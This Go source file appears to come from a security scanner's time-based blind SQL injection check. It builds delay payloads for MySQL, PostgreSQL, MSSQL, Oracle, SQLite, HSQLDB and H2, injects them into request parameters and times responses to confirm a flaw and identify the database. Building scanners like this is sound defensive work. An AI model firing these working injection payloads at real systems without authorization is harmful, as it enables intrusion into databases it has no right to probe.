package sqlinjection

import (
	"fmt"
	"strconv"
	"strings"
	"time"

	"merlon/internal/engine/dast/attack"
	"merlon/internal/finding"
	"merlon/internal/scan"
)

// This file finds statements that show nothing but how long they take.

// Slow is the check by time.
var Slow = &attack.Check{ID: "sqlinjection", Rules: []*finding.Rule{byTime}, Profile: scan.Standard, Slow: true, Wants: wants, Point: slow}

// A delay is a value that keeps a database busy for about n units of a second. Where the
// unit is work and not time, its length is only known to grow with n.
type delay struct {
	dbms string
	work bool
	// make returns the whole value. One value fits numbers and strings: for a number the
	// part between the comment signs is a comment, for a string it is what counts.
	make func(v string, n int) string
}

// both puts an expression behind a number and, with an operator, between two strings.
func both(v, operator, expression string) string {
	return v + "-" + expression + "/*'" + operator + expression + operator + "'*/"
}

// unquoted puts an expression behind a number, for filters that take no quotes; empty
// where the value is no number and no date.
func unquoted(v, expression string) string {
	if v[0] < '0' || v[0] > '9' {
		return ""
	}
	return v + "-" + expression
}

// delays make the database compute the expression once for the statement, not once for
// each row: it is a table of its own that depends on nothing.
var delays = []delay{
	{"mysql", false, func(v string, n int) string {
		return both(v, "-", fmt.Sprintf("(SELECT 0 FROM (SELECT SLEEP(%d))a)", n))
	}},
	{"mysql", false, func(v string, n int) string {
		return unquoted(v, fmt.Sprintf("(SELECT 0 FROM (SELECT SLEEP(%d))a)", n))
	}},
	{"postgres", false, func(v string, n int) string {
		return both(v, "||", fmt.Sprintf("(SELECT COUNT(*) FROM (SELECT pg_sleep(%d))a)", n))
	}},
	{"mssql", false, func(v string, n int) string {
		wait := fmt.Sprintf(" WAITFOR DELAY '0:0:%d' -- ", n)
		return v + wait + "';" + wait
	}},
	{"oracle", false, func(v string, n int) string {
		return both(v, "||", fmt.Sprintf("(SELECT DBMS_PIPE.RECEIVE_MESSAGE(CHR(97)||CHR(98),%d) FROM DUAL)", n))
	}},
	{"sqlite", true, func(v string, n int) string {
		return both(v, "||", fmt.Sprintf("(SELECT LENGTH(LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(%d))))))", n*75_000_000))
	}},
	{"hsqldb", true, func(v string, n int) string {
		return both(v, "||", fmt.Sprintf("(SELECT COUNT(*) FROM (VALUES(0)) WHERE REGEXP_SUBSTRING(REPEAT(LEFT(CRYPT_KEY(CHAR(65)||CHAR(69)||CHAR(83),NULL),0),%d),NULL) IS NOT NULL)", n*400_000_000))
	}},
	{"h2", true, func(v string, n int) string {
		return both(v, "||", fmt.Sprintf("(SELECT COUNT(*) FROM SYSTEM_RANGE(1,%d) WHERE MOD(X,3)=5)", n*20_000_000))
	}},
}

const (
	step  = 2   // units of the shorter delay
	least = 0.8 // of a delay that must have passed, for the clocks of two machines
)

func slow(p *attack.Probe) error {
	if p.Found(Mark) {
		return nil
	}
	base, err := p.Baseline()
	if err != nil {
		return err
	}
	usual := max(base.First.Took, base.Second.Took)
	if usual > time.Second { // nothing can be told apart
		return nil
	}
	list := known(p)
	for _, d := range list {
		found, err := try(p, d, usual)
		if found || err != nil {
			return err
		}
	}
	return nil
}

// known are the delays of the databases that were seen in errors of the target; all,
// where none was.
func known(p *attack.Probe) []delay {
	var out []delay
	for _, d := range delays {
		if p.Noted("dbms:" + d.dbms) {
			out = append(out, d)
		}
	}
	if len(out) == 0 {
		return delays
	}
	return out
}

// try measures 2, 0, 4 and again 0 units. Two seconds of sleep last at least 1.6; work of
// twice the size lasts at least half as long again, and none of the size nothing lasts
// longer than usual.
func try(p *attack.Probe, d delay, usual time.Duration) (found bool, err error) {
	flaw := attack.Flaw{Rule: byTime, Proof: []string{"Without an attack the answer takes " + seconds(usual) + "."}}
	var short time.Duration
	for i, n := range []int{step, 0, 2 * step, 0} {
		payload := d.make(p.Value(), n)
		if payload == "" {
			return false, nil
		}
		resp, err := p.SendAlone(p.Request.With(p.At, payload))
		if err != nil {
			return false, err
		}
		took := resp.Took
		switch {
		case i == 0:
			short = took
			if took < floor(d, n)+usual/2 {
				return false, nil
			}
		case n == 0 && took > usual+short/2:
			return false, nil
		case n > 0 && took < max(floor(d, n), short+short/2):
			return false, nil
		}
		flaw.Answers, flaw.Notes = append(flaw.Answers, resp), append(flaw.Notes, strconv.Itoa(n)+" units of delay")
		flaw.Proof = append(flaw.Proof, fmt.Sprintf("With %d units of delay it takes %s.", n, seconds(took)))
		if n == step {
			flaw.Payload, flaw.Request = payload, p.Request.With(p.At, payload)
		}
	}
	flaw.Proof = append(flaw.Proof, "The delay is written for "+names[d.dbms]+".")
	p.Mark(Mark)
	p.Note("dbms:" + d.dbms)
	p.Flaw(flaw)
	return true, nil
}

// floor is how long n units last at least.
func floor(d delay, n int) time.Duration {
	if d.work {
		return 300 * time.Millisecond * time.Duration(n) / step
	}
	return time.Duration(float64(n) * least * float64(time.Second))
}

func seconds(d time.Duration) string {
	return strings.TrimSuffix(strconv.FormatFloat(d.Seconds(), 'f', 2, 64), ".00") + " s"
}
